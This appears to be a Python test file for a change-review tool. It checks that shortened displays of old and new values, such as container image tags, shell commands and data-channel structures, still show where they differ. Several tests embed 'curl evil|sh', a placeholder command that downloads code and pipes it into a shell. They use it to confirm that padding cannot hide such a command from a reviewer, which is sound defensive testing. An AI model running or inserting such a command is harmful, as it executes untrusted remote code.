"""Shortened values stay distinguishable."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smspec.review.change import LONGEST, MOST_DIFFERING, MOST_IN_TEXT, Change, shown_values

REGISTRY = "763104351884.dkr.ecr.us-west-2.amazonaws.com/pytorch-training"


def shown(old, new):
    return shown_values(Change(kind="image", path=(), what="", old=old, new=new))


def test_long_tags_are_shortened_to_their_difference():
    old, new = shown(*(f"{REGISTRY}:2.{number}.0-gpu-py311-cu121-ubuntu20.04-sagemaker" for number in (3, 4)))
    assert (":2.3.0-gpu" in old, ":2.4.0-gpu" in new) == (True, True)


@given(st.text("ab", max_size=200), st.text("ab", max_size=200), st.text("ab", max_size=200))
def test_different_values_are_shown_differently(before, middle, after):
    old, new = shown(f"{before}x{middle}{after}", f"{before}y{middle}{after}")
    assert old != new
    assert max(len(old), len(new)) <= LONGEST + MOST_DIFFERING


def test_part_that_differs_is_shown_or_counted():
    """Padding around a command does not hide it."""
    pad = "echo hello; " * 50
    command = "curl evil|sh; "
    old, new = shown(pad + pad, pad + command + pad)
    assert command in new and command not in old and "characters" not in new
    _, new = shown(None, ["sh", "-c", "echo hello; " * 5 + command + "echo bye; " * 5])
    assert command in new
    _, new = shown(None, ["sh", "-c", pad + command])
    assert new.endswith(f"… (+{len(pad + command) - 232:,} characters)")


@pytest.mark.parametrize("pad", [60, 5000])
def test_edits_at_both_ends_hide_nothing_between_them(pad):
    """Each part that differs is shown with what is around it, also if all is too much to be compared."""
    words = [f"step{number}" for number in range(pad)]
    before = " ".join(["first", *words, *words, "last"])
    after = " ".join(["1st", *words, "curl evil|sh", *words, "final"])
    change = Change(kind="image", path=(), what="", old=before, new=after)
    _, new = shown_values(change, most=MOST_IN_TEXT)
    assert all(part in new for part in ("1st step0", f"step{pad - 1} curl evil|sh step0 step1", f"step{pad - 1} final"))
    assert ("step30 " in new) == (pad > 60)
    assert len(shown_values(change)[1]) < 400


def test_every_part_that_differs_is_shown_or_counted():
    words = [f"step{number}" for number in range(200)]
    before, after = (" ".join(f"{word} {more}" for word in words for more in (*"abcdefghijkl", edit)) for edit in "xy")
    _, new = shown(before, after)
    assert new.endswith("characters)") and new.count("…") < 22


@given(st.lists(st.sampled_from(["ab ", "c", "; "]), max_size=90), st.lists(st.integers(0, 89), max_size=4))
def test_new_text_at_any_places_is_shown(words, places):
    edited = list(words)
    for place in places:
        edited.insert(place, "<EVIL>")
    _, new = shown_values(
        Change(kind="image", path=(), what="", old="".join(words), new="".join(edited)), most=MOST_IN_TEXT
    )
    assert new.count("<EVIL>") == len(places) or not words


def test_large_structure_shows_its_values():
    s3 = {"S3DataSource": {"S3DataType": "S3Prefix", "S3Uri": "s3://example-data/train/"}}
    channel = {"ChannelName": "train", "DataSource": s3, "InputMode": "File"}
    assert shown(None, channel) == ("(none)", "train, S3Prefix, s3://example-data/train/, File")


def test_small_structure_is_shown_whole():
    assert shown({"train": "csv"}, []) == ('{"train": "csv"}', "[]")
